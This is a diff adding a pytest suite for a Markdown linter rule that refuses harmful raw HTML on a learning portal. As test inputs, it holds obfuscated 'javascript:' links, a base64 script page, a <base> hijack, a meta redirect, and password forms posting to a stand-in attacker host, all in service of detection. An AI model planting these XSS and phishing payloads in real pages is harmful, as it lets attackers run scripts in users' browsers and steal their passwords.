@@ -1,0 +1,131 @@
+"""LS411: raw HTML in a body is published as written, so only harmless formatting passes.
+
+Each body below reached the built page and a learner's browser unreported before LS411
+read HTML the way a browser does (see the review of raw HTML).
+"""
+
+import pytest
+
+ALPHA = "content/modules/basics/alpha.md"
+
+
+def places(site, found):
+    return [(f.line, f.col) for f in found]
+
+
+def test_a_base_tag_is_refused(site):
+    """<base> moves every later relative script, the portal's own too, to another host."""
+    site.module("alpha", folder="basics", body=(
+        '# Heading\n\nSome text.\n\n<base href="https://evil.example/">\n'))
+    found = site.only("LS411")
+    assert (found.line, found.col) == site.at(ALPHA, "<base")
+    assert "the portal's own scripts included" in found.message
+    assert "relative to this file" in found.hint
+
+
+@pytest.mark.parametrize("href", [
+    "jav&#x09;ascript:alert(11)",  # a tab, written as a character reference
+    "&#106;avascript:alert(17)",
+    "javascript&colon;alert(1)",
+    "&#x01; javascript:alert(1)",  # control characters and spaces before the scheme
+    "java\nscript:alert(1)",  # a line break inside the value
+    "JAVA&Tab;SCRIPT:alert(1)",
+])
+def test_a_disguised_script_link_in_a_tag(site, href):
+    site.module("alpha", folder="basics", body=f'# Heading\n\nSee <a href="{href}">this</a>.\n')
+    found = site.only("LS411")
+    assert (found.line, found.col) == site.at(ALPHA, "<a href")
+    assert found.message == "the 'javascript:' link runs a script in every learner's browser"
+
+
+def test_a_disguised_script_link_in_markdown(site):
+    """Python-Markdown writes a link's target as given; the browser decodes it."""
+    site.module("alpha", folder="basics", body=(
+        "# Heading\n\nSee [this](&#106;avascript:alert(1)) and [that][ref].\n\n"
+        "[ref]: vb&#x0A;script:msgbox(2)\n"))
+    found = site.findings("LS411")
+    assert [((f.line, f.col), f.message.split("'")[1]) for f in found] == [
+        (site.at(ALPHA, "[this]"), "javascript:"), (site.at(ALPHA, "[ref]:"), "vbscript:")]
+
+
+def test_a_data_link_is_refused_but_a_data_image_is_not(site):
+    site.module("alpha", folder="basics", body=(
+        '# Heading\n\n<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
+        "Open</a> and [this](data:text/html,hi).\n\n"
+        '![A dot](data:image/png;base64,iVBORw0KGgo=) <img alt="A dot" '
+        'src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">\n'))
+    found = site.findings("LS411")
+    assert places(site, found) == [site.at(ALPHA, "<a href"), site.at(ALPHA, "[this]")]
+    assert all("'data:' link opens a page carried inside the link" in f.message for f in found)
+
+
+@pytest.mark.parametrize(("html", "harm"), [
+    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+     "send every learner to another site"),
+    ('<form action="https://evil.example/"><input type="password" name="p"></form>',
+     "ask learners for their password"),
+    ('<button formaction="https://evil.example/">Sign in</button>',
+     "ask learners for their password"),
+    ("<style>.md-nav { display: none }</style>", "restyles the whole page"),
+    ('<link rel="stylesheet" href="https://evil.example/x.css">', "hide or change anything"),
+    ('<svg><a xlink:href="javascript:alert(1)"><text y="20">Click</text></a></svg>',
+     "scripts and links"),
+    ('<math href="javascript:alert(1)">x</math>', "run a script"),
+    ('<frameset><frame src="https://evil.example/"></frameset>', "another page"),
+    ('<applet code="X.class"></applet>', "another page or program"),
+    ('<portal src="https://evil.example/"></portal>', "another page"),
+    ("<template><p>hidden</p></template>", "does not publish"),
+])
+def test_a_harmful_tag_is_refused(site, html, harm):
+    site.module("alpha", folder="basics", body=f"# Heading\n\nSome text.\n\n{html}\n")
+    found = site.findings("LS411")
+    assert places(site, found[:1]) == [site.at(ALPHA, html[:5])]
+    assert harm in found[0].message and found[0].hint
+
+
+def test_attributes_that_restyle_or_script_an_allowed_tag(site):
+    site.module("alpha", folder="basics", body=(
+        '# Heading\n\n<div style="position:fixed;inset:0">Session expired</div>\n\n'
+        '<a title=">" href="javascript:alert(1)">A quote does not end a tag</a>\n\n'
+        "A paragraph\n{: onmouseover=\"alert(2)\" }\n\n"
+        '[a link](https://example.com){ href="&#106;avascript:alert(3)" }\n\n'
+        '<agent onclick="alert(4)">an unknown tag is inert, its attributes are not</agent>\n'))
+    found = site.findings("LS411")
+    assert [((f.line, f.col), f.message.split("'")[1]) for f in found] == [
+        (site.at(ALPHA, "<div"), "style="), (site.at(ALPHA, "<a title"), "javascript:"),
+        (site.at(ALPHA, "{:"), "onmouseover="), (site.at(ALPHA, "{ href"), "javascript:"),
+        (site.at(ALPHA, "<agent"), "onclick=")]
+    assert "look-alike of the portal" in found[0].message
+
+
+def test_code_in_a_raw_html_block_is_html(site):
+    """Markdown reads nothing inside a raw HTML block: backticks there are no code span."""
+    site.module("alpha", folder="basics", body=(
+        "# Heading\n\n<div>\n\n`<script>alert(1)</script>`\n\n</div>\n\n"
+        '<div title="`" onclick="alert(2)">x</div> `y`\n\n'
+        "<div>\n<!-- </div> -->\n\n`<iframe src=\"https://evil.example/\"></iframe>`\n</div>\n\n"
+        "After the blocks: `<script>` is text.\n"))
+    found = site.findings("LS411")
+    assert places(site, found) == [site.at(ALPHA, "<script>alert"), site.at(ALPHA, '<div title'),
+                                   site.at(ALPHA, "<iframe")]
+
+
+def test_harmless_html_and_html_as_text_stay_allowed(site):
+    site.module("alpha", folder="basics", body=(
+        "# Heading\n\nPress <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup>,<br>\n"
+        '<abbr title="Open Database Connectivity">ODBC</abbr>, <mark>new</mark>, '
+        '<span class="note">a note</span>, <small>small</small>, <ins>in</ins> <del>out</del>, '
+        '<a href="https://example.com/?q=javascript:x">web</a>, <a href="../basics/beta.md">'
+        'beta</a>, <a href="#heading">top</a>, <a href="mailto:team@example.com">mail</a>.\n\n'
+        "<details>\n<summary>More</summary>\n<p>Hidden text with <b>bold</b>.</p>\n</details>\n\n"
+        '<div class="grid" markdown>\n\n**Markdown** inside.\n\n</div>\n\n'
+        '<figure>\n<img src="https://example.com/a.png" alt="A chart">\n'
+        "<figcaption>A chart</figcaption>\n</figure>\n\n"
+        "<table>\n<thead><tr><th>Port</th></tr></thead>\n"
+        "<tbody><tr><td>443</td></tr></tbody>\n</table>\n\n"
+        "<dl><dt>Agent</dt><dd>The service that syncs.</dd></dl>\n\n"
+        "<!-- a note for authors -->\n\n"
+        "Text: `<base href=x>`, `<form>`, a <videos> word, 1 < 2 and <agent host> from a "
+        "command.\n\n"
+        "```html\n<script>alert(1)</script>\n<meta http-equiv=\"refresh\" content=\"0\">\n```\n"))
+    assert site.findings("LS411") == []
